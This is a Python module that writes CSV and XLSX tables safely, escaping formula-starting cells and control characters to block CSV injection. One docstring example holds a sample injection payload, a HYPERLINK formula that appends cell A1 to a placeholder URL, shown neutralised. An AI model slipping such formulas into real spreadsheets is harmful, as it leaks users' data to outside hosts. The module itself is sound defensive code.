r"""The one writer of tables for spreadsheets: CSV and XLSX where data is never a formula.

Every CSV and XLSX file ``geo`` writes (:func:`geo.write_table`,
:func:`geo.write_synergies`, the command line, the site's ``donnees/``) goes
through :func:`write_spreadsheet`. Its rules, written once:

* **Data is text, never a formula** (OWASP's "CSV injection" rule). In CSV, a
  text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
  return gets a leading ``'`` (``=HYPERLINK(...)`` is written
  ``'=HYPERLINK(...)``), unless the whole cell is a plain number such as
  ``-12.5``, which no spreadsheet reads as a formula. In XLSX every text cell is
  written as an explicit string (``t="inlineStr"``): the text is kept as is and
  no ``<f>`` formula element is ever written.
* **Numbers stay numbers**: integer and float values (also inside text columns)
  are written as numbers; missing values and NaN as empty cells.
* **Control characters are shown, not written**: C0/C1 controls other than
  tab, newline and carriage return, and the invisible characters that reorder
  text (bidi overrides), are written as escapes (``\x1b``) like
  :func:`geo.errors.visible` does in messages; XLSX cannot hold them at all.
* **A cut is said**: a text longer than Excel's 32,767 characters per cell
  is cut in XLSX, with one :class:`CellTruncatedWarning` naming the file, the
  spreadsheet rows and the columns.
* **Same data, same bytes**: the XLSX files carry fixed ZIP and document dates.

Two CSV dialects (:data:`DIALECTS`): ``"standard"`` (comma, decimal point,
UTF-8 without BOM) and ``"fr"`` (semicolon, decimal comma, UTF-8 with BOM: what
a French Excel opens with a double click). Files are written atomically
(:func:`geo._core.files.atomic_path`). Geographic formats are not this
module's job.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import math
import numbers
import os
import re
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

from geo._core.files import atomic_path
from geo._core.warn import warn
from geo.errors import ArgumentError, GeoWarning, SchemaError

__all__ = [
    "DIALECTS",
    "MAX_XLSX_CELL",
    "CellTruncatedWarning",
    "CsvDialect",
    "safe_text",
    "write_spreadsheet",
]

#: Most characters Excel keeps in one cell.
MAX_XLSX_CELL = 32_767

#: First characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

_CONTROLS = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]"
)
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:[.,][0-9]*)?|[.,][0-9]+)(?:[eE][+-]?[0-9]+)?")
_SHEET_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")
_ZIP_DATE = (1980, 1, 1, 0, 0, 0)  # the earliest ZIP date: no build time in the files


class CellTruncatedWarning(GeoWarning):
    """A text was longer than an XLSX cell holds and was cut (names file, rows, columns)."""


@dataclass(frozen=True)
class CsvDialect:
    """How a CSV file is written: separator, decimal mark, encoding.

    Examples
    --------
    >>> DIALECTS["fr"].separator, DIALECTS["fr"].decimal, DIALECTS["fr"].encoding
    (';', ',', 'utf-8-sig')
    """

    separator: str
    decimal: str
    encoding: str
    label: str


#: The CSV dialects :func:`write_spreadsheet` knows.
DIALECTS = {
    "standard": CsvDialect(",", ".", "utf-8", "CSV UTF-8, virgule, point décimal"),
    "fr": CsvDialect(";", ",", "utf-8-sig", "CSV UTF-8 (BOM), point-virgule, virgule décimale"),
}


def _show_control(match: re.Match[str]) -> str:
    code = ord(match.group(0))
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"


def safe_text(value: Any) -> str:
    r"""Return a text cell for CSV: controls shown as escapes, no formula start.

    Parameters
    ----------
    value
        Any value; it is written as its text.

    Returns
    -------
    str
        The text, with a leading ``'`` when it would start a formula.

    Examples
    --------
    >>> safe_text('=HYPERLINK("http://x.example/?"&A1)')
    '\'=HYPERLINK("http://x.example/?"&A1)'
    >>> safe_text("-12.5"), safe_text("@SUM(A1)"), safe_text("Saint-Étienne")
    ('-12.5', "'@SUM(A1)", 'Saint-Étienne')
    >>> safe_text("bell\x07")
    'bell\\x07'
    """
    text = _CONTROLS.sub(_show_control, str(value))
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def _is_missing(value: Any) -> bool:
    if value is None or value is pd.NA or value is pd.NaT:
        return True
    return isinstance(value, float) and math.isnan(value)


def _number(value: Any) -> int | float | None:
    """Return the value as a Python number when it is a real number (not a bool), else None."""
    if isinstance(value, (bool, np.bool_)) or not isinstance(value, numbers.Real):
        return None
    if isinstance(value, numbers.Integral):
        return int(value)
    return float(value)


def _csv_number(number: float, dialect: CsvDialect) -> str:
    text = repr(number) if isinstance(number, float) else str(number)
    return text.replace(".", dialect.decimal) if dialect.decimal != "." else text


def _csv_cell(value: Any, dialect: CsvDialect) -> str:
    if _is_missing(value):
        return ""
    number = _number(value)
    if number is not None:
        if isinstance(number, float) and not math.isfinite(number):
            return "" if math.isnan(number) else safe_text(repr(number))
        return _csv_number(number, dialect)
    if isinstance(value, (dt.date, dt.datetime)):
        return value.isoformat()
    return safe_text(value)


def _column_values(table: pd.DataFrame) -> Iterator[list[Any]]:
    columns = [table.iloc[:, i].astype(object).tolist() for i in range(table.shape[1])]
    return (list(row) for row in zip(*columns, strict=True)) if columns else iter(())


def _write_csv(table: pd.DataFrame, tmp: Path, dialect: CsvDialect) -> None:
    with open(tmp, "w", encoding=dialect.encoding, newline="") as handle:
        # CRLF (RFC 4180): a cell holding a lone carriage return is then quoted.
        writer = csv.writer(handle, delimiter=dialect.separator, lineterminator="\r\n")
        writer.writerow([safe_text(c) for c in table.columns])
        for row in _column_values(table):
            writer.writerow([_csv_cell(v, dialect) for v in row])


class _Cuts:
    """The cells cut to :data:`MAX_XLSX_CELL` characters, for one warning."""

    def __init__(self) -> None:
        self.cells: list[str] = []

    def cut(self, text: str, row: int, column: str) -> str:
        if len(text) <= MAX_XLSX_CELL:
            return text
        self.cells.append(f"row {row} column {column!r} ({len(text):,} characters)")
        return text[:MAX_XLSX_CELL]

    def warn(self, path: Path) -> None:
        if not self.cells:
            return
        shown = "; ".join(self.cells[:10])
        more = f" (and {len(self.cells) - 10} more)" if len(self.cells) > 10 else ""
        warn(
            f"{path}: {len(self.cells)} cell{'s' if len(self.cells) > 1 else ''} longer than "
            f"Excel's {MAX_XLSX_CELL:,} characters cut to that length: {shown}{more}; "
            "write a .csv file to keep whole texts",
            CellTruncatedWarning,
        )


def _xlsx_value(value: Any, ws: Any, row: int, column: str, cuts: _Cuts) -> Any:
    from openpyxl.cell import WriteOnlyCell

    if _is_missing(value):
        return None
    if isinstance(value, (bool, np.bool_)):
        return bool(value)
    number = _number(value)
    if number is not None:
        return number if math.isfinite(number) else repr(number)
    if isinstance(value, dt.datetime):
        return value.isoformat() if value.tzinfo is not None else value
    if isinstance(value, dt.date):
        return value
    text = cuts.cut(_CONTROLS.sub(_show_control, str(value)), row, column)
    cell = WriteOnlyCell(ws, value=text)
    cell.data_type = "s"  # never "f" (formula) nor "e" (error), whatever the text starts with
    return cell


def _sheet_title(name: str) -> str:
    title = _SHEET_FORBIDDEN.sub("-", _CONTROLS.sub("", str(name))).strip("'")[:31]
    return title or "table"


def _write_xlsx(table: pd.DataFrame, tmp: Path, target: Path, sheet_name: str) -> None:
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    ws = book.create_sheet(_sheet_title(sheet_name))
    cuts = _Cuts()
    headers = [str(c) for c in table.columns]
    ws.append([_xlsx_value(h, ws, 1, h, cuts) for h in headers])
    for number, row in enumerate(_column_values(table), start=2):
        ws.append([_xlsx_value(v, ws, number, h, cuts) for v, h in zip(row, headers, strict=True)])
    book.save(tmp)
    _fix_dates(tmp)
    cuts.warn(target)


def _fix_dates(path: Path) -> None:
    """Rewrite an XLSX (a ZIP) with fixed entry and document dates: same data, same bytes."""
    with zipfile.ZipFile(path) as source:
        entries = [(info.filename, source.read(info.filename)) for info in source.infolist()]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for name, payload in entries:
            if name == "docProps/core.xml":
                payload = re.sub(
                    rb"(<dcterms:(?:created|modified)[^>]*>)[^<]*(</dcterms:)",
                    rb"\g<1>1980-01-01T00:00:00Z\g<2>",
                    payload,
                )
            info = zipfile.ZipInfo(name, date_time=_ZIP_DATE)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            target.writestr(info, payload)
    path.write_bytes(buffer.getvalue())


def write_spreadsheet(
    table: pd.DataFrame,
    path: str | os.PathLike[str],
    *,
    sheet_name: str = "table",
    dialect: str = "standard",
) -> Path:
    r"""Write a table as CSV or XLSX (by the extension) where no cell is a formula.

    Parameters
    ----------
    table
        Any table without geometry; its index is not written.
    path
        Target ``.csv`` or ``.xlsx`` file, replaced atomically; its directory
        is created when missing.
    sheet_name
        Name of the XLSX sheet (cut to Excel's 31 characters, without
        ``[]:*?/\``).
    dialect
        CSV dialect (:data:`DIALECTS`): ``"standard"`` (``,``, decimal point,
        UTF-8) or ``"fr"`` (``;``, decimal comma, UTF-8 with BOM). Ignored
        for XLSX, whose numbers are numbers.

    Returns
    -------
    Path
        The written file.

    Raises
    ------
    SchemaError
        An extension other than ``.csv`` or ``.xlsx``.
    ArgumentError
        An unknown ``dialect``.

    Warns
    -----
    CellTruncatedWarning
        XLSX cells cut to 32,767 characters (file, rows and columns named).

    Examples
    --------
    >>> import tempfile, pandas as pd
    >>> folder = tempfile.mkdtemp()
    >>> table = pd.DataFrame({"nom": ["=1+1", "Évreux"], "km": [-2.5, 3.0]})
    >>> path = write_spreadsheet(table, f"{folder}/t.csv", dialect="fr")
    >>> print(path.read_text(encoding="utf-8-sig"), end="")
    nom;km
    '=1+1;-2,5
    Évreux;3,0
    """
    if dialect not in DIALECTS:
        raise ArgumentError(f"dialect={dialect!r}: use one of {', '.join(map(repr, DIALECTS))}")
    path = Path(path)
    ext = path.suffix.lower()
    if ext not in (".csv", ".xlsx"):
        raise SchemaError(
            f"cannot write {path.name!r} as a spreadsheet: unknown extension "
            f"{ext or '(none)'!r}; use .csv or .xlsx"
        )
    with atomic_path(path) as tmp:
        if ext == ".csv":
            _write_csv(table, tmp, DIALECTS[dialect])
        else:
            _write_xlsx(table, tmp, path, sheet_name)
    return path
